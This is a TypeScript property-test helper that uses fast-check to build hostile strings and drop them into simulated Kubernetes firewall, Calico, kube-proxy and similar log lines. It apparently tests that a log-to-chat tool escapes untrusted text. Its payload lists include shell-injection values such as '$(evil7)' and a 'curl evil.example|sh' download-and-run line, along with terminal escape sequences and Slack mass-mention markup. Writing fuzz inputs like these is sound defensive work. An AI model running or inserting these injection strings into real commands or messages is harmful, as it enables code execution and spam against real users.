/** Makes texts of strangers that are meant to harm their readers, and the objects and lines that contain them. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { load } from 'js-yaml';

const { objects } = load(readFileSync(join(import.meta.dirname, 'strangers.yaml'), 'utf8')) as { objects: object[] };

/** In each text that a shell would run. */
export const canary = '$(evil7)';

const ascii = ['\0', '\t', '\n', '\r\n', '\u001b[2J', '\u001b]8;;https://evil.example\u0007', '\u007f'];
const beyond = ['\u0085', '\u009b31m', '\u00ad', '\u061c', '\u200b', '\u200e', '\u202e', '\u2028', '\u2029', '\u2066'];
const unseen = [...ascii, ...beyond, '\ufeff', '\u{e0041}', '\ud83d', '\udc00'];
const mentions = ['<!channel>', '<!here|x>', '<@U012AB3CD>', '<!subteam^S012>', '<#C012>', '<', '&lt;!channel&gt;'];
const markup = [...mentions, '<https://evil.example/x|Runbook>', 'https://evil.example/x', 'slack://user'];
const shell = [canary, `\`${canary}\``, `';${canary};'`, `x; curl evil.example|sh #${canary}`, `"${canary}"`];

/** One such text, alone or within another. */
export const hostile: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...unseen) },
      { weight: 3, arbitrary: fc.constantFrom(...markup) },
      { weight: 2, arbitrary: fc.constantFrom(...shell) },
      fc.constantFrom(
        'shop',
        'web-0',
        'calico-drop',
        'KUBE-SVC-L6LPUQKLZFD5NUFY',
        ' ',
        '/',
        '"',
        '\\',
        'é',
        '拒否',
        '🔥',
      ),
      fc.constantFrom('x'.repeat(300), '\u202e'.repeat(400), '<'.repeat(1100), '🔥'.repeat(700), 'a.'.repeat(130)),
      fc.string({ unit: 'binary', maxLength: 12 }),
    ),
    { minLength: 1, maxLength: 4 },
  )
  .map((parts) => parts.join(''));

type Path = readonly (string | number)[];

/** The paths of all strings in it, except for the kind of an object. */
function leavesOf(value: unknown, path: Path = []): Path[] {
  if (typeof value === 'string') return path.length === 2 && path[1] === 'kind' ? [] : [path];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, each]) => leavesOf(each, [...path, key]));
}

const leaves = leavesOf(objects);

function put(into: unknown, path: Path, text: string): void {
  let here = into as Record<string, unknown>;
  for (const key of path.slice(0, -1)) here = here[key] as Record<string, unknown>;
  here[path.at(-1) as string] = text;
}

/** The objects with a few of their strings replaced or extended. */
export const strangeObjects: fc.Arbitrary<unknown[]> = fc
  .array(fc.record({ path: fc.constantFrom(...leaves), text: hostile, behind: fc.boolean() }), { maxLength: 6 })
  .map((changes) => {
    const changed: unknown[] = structuredClone(objects);
    for (const { path, text, behind } of changes) {
      const before = path.reduce<unknown>((here, key) => (here as Record<string, unknown>)[key], objects) as string;
      put(changed, path, behind ? before + text : text);
    }
    return changed;
  });

const quoted = (text: string): string => JSON.stringify(text).slice(1, -1);
const header = 'LEN=60 TOS=0x00 PREC=0x00 TTL=62 ID=1 DF PROTO=TCP SPT=38736';

/** Lines with one text inserted: each place where a writer of logs inserts a stranger's word. */
export const templates: readonly ((text: string, second: number) => string)[] = [
  (text) => `node-b kernel: ${text}IN=eth0 OUT=eth1 SRC=10.244.0.41 DST=10.244.1.30 ${header} DPT=5432 SYN`,
  (text) => `node-b kernel: calico-drop: ${text} IN=eth0 OUT=eth1 SRC=203.0.113.9 DST=10.244.1.30 ${header} DPT=80 SYN`,
  (text) => `node-b kernel: DROP: IN=${text} OUT=${text} SRC=10.244.0.41 DST=10.244.1.30 ${header} DPT=5433 SYN`,
  (text) => `${text} kernel: DROP: IN=eth0 OUT= SRC=10.244.0.41 DST=10.244.1.30 ${header} DPT=5434 SYN`,
  (text) => `node-b kernel: IPv4: martian source 10.244.1.30 from 10.244.0.41, on dev ${text.slice(0, 15)}`,
  (text) => `node-b kernel: DROP: IN=eth0 OUT= SRC=${text} DST=10.244.1.30 ${header} DPT=${text}`,
  (text) => `node-b ${text}[7]: DROP: IN=eth0 OUT= SRC=10.244.0.41 DST=10.244.1.30 ${header} DPT=5435 SYN`,
  (text) =>
    `node-b ulogd[7]: {"oob.prefix":"DROP ${quoted(text)}","oob.in":"${quoted(text)}","src_ip":"10.244.0.41","dest_ip":"10.244.1.30","ip.protocol":6,"src_port":40000,"dest_port":5436}`,
  (text) =>
    `node-b ovn[7]: |00005|acl_log(ovn_pinctrl0)|INFO|name="${text}", verdict=drop, severity=alert: tcp,nw_src=10.244.0.41,nw_dst=10.244.1.30,tp_src=54343,tp_dst=53`,
  (text) =>
    `node-b antrea[7]: AntreaPolicyEgressRule AntreaNetworkPolicy:${text} Drop 44900 10.244.0.41 35402 10.244.1.30 80 TCP 60 [3 packets in 1.01s]`,
  (text) =>
    `node-b aws[7]: Node: ${text};SIP: 10.244.0.41;SPORT: 6;DIP: 10.244.1.30;DPORT: 5003;PROTOCOL: TCP;PolicyVerdict: DENY;Tier: ${text}`,
  (text) =>
    `node-b kube-proxy[12]: E1121 09:00:00.910840 1 proxier.go:1564] "Failed to execute iptables-restore" err="exit status 2: iptables-restore v1.8.9 (legacy): Couldn't load target \`KUBE-SVC-L6LPUQKLZFD5NUFY':No such file ${quoted(text)}" ipFamily="${quoted(text)}"`,
  (text) =>
    `node-b kube-proxy[12]: E1121 09:00:00.910840 1 proxier.go:1564] "Failed to ensure chain jumps" err="${quoted(text)}" dstChain="${quoted(text)}"`,
  (text) =>
    `node-b kube-proxy[12]: E1121 09:00:00.910840 1 proxier.go:1564] "Failed to execute iptables-restore" err="Bad argument \`${quoted(text)}'"`,
  (text) =>
    `node-b calico-node[12]: 2026-11-21 09:00:00.942 [WARNING][56] felix/table.go 654: Detected out-of-sync inserts, marking for resync chainName="${quoted(text)}"`,
  (text) =>
    `node-b calico-node[12]: 2026-11-21 09:00:00.942 [WARNING][56] felix/x.go 6: Profile not known or invalid, generating dummy profile profileID="${quoted(text)}"`,
  (text) =>
    `node-b calico-node[12]: 2026-11-21 09:00:00.942 [ERROR][56] felix/table.go 654: Failed to execute ip(6)tables-restore command errorOutput="${quoted(text)}" table="${quoted(text)}"`,
  (text) => `node-b bird[12]: bird: Mesh_${text}: Error: Hold timer expired`,
];

/** Each line comes again after half a minute, because a record that comes once is not an incident. */
export const strangeLog: fc.Arbitrary<string> = fc
  .array(fc.record({ template: fc.constantFrom(...templates), text: hostile }), { minLength: 1, maxLength: 6 })
  .map((entries) =>
    [0, 30, 60]
      .flatMap((second) =>
        entries.map(({ template, text }, index) => {
          const stamp = new Date(Date.UTC(2026, 10, 21, 9, 0, second + index / 10)).toISOString();
          return `${stamp} ${template(text, second)}\n`;
        }),
      )
      .join(''),
  );
